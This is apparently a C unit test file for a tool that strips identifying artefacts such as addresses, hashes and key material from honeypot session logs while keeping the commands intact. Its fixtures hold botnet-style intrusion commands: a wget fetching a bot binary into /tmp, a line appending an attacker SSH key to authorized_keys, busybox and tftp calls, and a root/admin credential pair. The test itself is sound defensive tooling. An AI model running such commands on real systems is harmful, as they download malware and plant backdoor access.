/* test_real.c - what would give a campaign away is gone, and what it did is still there. */
#include <math.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

#include "evaluate/real.h"
#include "truth_support.h"

static void
assert_stripped(const char *text, const char *expected)
{
	struct buf out = BUF_INIT(1 << 16);

	real_strip_text(sv_from(text), &out);
	assert_string_equal(expected, buf_cstr(&out));
	buf_clear(&out);
}

static void
artefacts_go_and_commands_stay(void **state)
{
	(void)state;
	assert_stripped("", "");
	assert_stripped("uname -a", "uname -a");
	assert_stripped("cd /tmp; wget http://198.51.100.7/bot.arm7", "cd /tmp; wget url");
	assert_stripped("echo \"ssh-rsa AAAAB3NzaC1yc2EAAAABJQ mdrfckr\">>.ssh/authorized_keys",
	    "echo \"ssh-rsa key marker\">>.ssh/authorized_keys");
	assert_stripped("/bin/busybox FBOT", "/bin/busybox marker");
	assert_stripped("tftp -g 203.0.113.9 -r x", "tftp -g address -r x");
	assert_stripped("echo 0123456789abcdef0123456789ABCDEF|cat", "echo hash|cat");
	assert_stripped("0123456789abcdef", "0123456789abcdef");
}

static struct session_table
table_of(struct session_row_item *items, uint32_t n)
{
	struct session_builder *builder = session_builder_new();
	struct session_row row = { .source = addr_from_v4(0xc6336407U),
		.start_us = 1700000000 * TIME_SECOND,
		.end_us = 1700000060 * TIME_SECOND,
		.duration_us = -1,
		.items = items,
		.n_items = n };
	struct session_table table;

	row.text[TEXT_ID] = SV("a1");
	row.text[TEXT_SENSOR] = SV("east");
	assert_int_equal(COORD_OK, session_builder_add(builder, &row, NULL));
	assert_int_equal(COORD_OK, session_builder_finish(builder, &table, NULL, NULL));
	session_builder_free(builder);
	return table;
}

static void
a_table_keeps_its_commands_and_loses_its_hashes(void **state)
{
	struct session_row_item items[] = {
		{ .a = SV("/bin/busybox FBOT"), .kind = ITEM_COMMAND },
		{ .a = SV("d7188b8c"), .b = SV("x.sh"), .kind = ITEM_FILE_HASH },
		{ .a = SV("root"),
		    .b = SV("admin"),
		    .kind = ITEM_CREDENTIAL,
		    .flags = ITEM_SUCCESS },
	};
	struct session_table table = table_of(items, 3), got;

	(void)state;
	assert_int_equal(COORD_OK, real_strip(&table, &got, NULL));
	assert_null(session_table_check(&got));
	assert_int_equal(2, got.n_items);
	assert_true(sv_eq(session_string(&got, got.items[0].a), SV("/bin/busybox marker")));
	assert_true(sv_eq(session_string(&got, got.items[1].b), SV("admin")));
	assert_int_equal(ITEM_SUCCESS, got.items[1].flags);
	session_table_free(&got);
	session_table_free(&table);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(artefacts_go_and_commands_stay),
		cmocka_unit_test(a_table_keeps_its_commands_and_loses_its_hashes),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
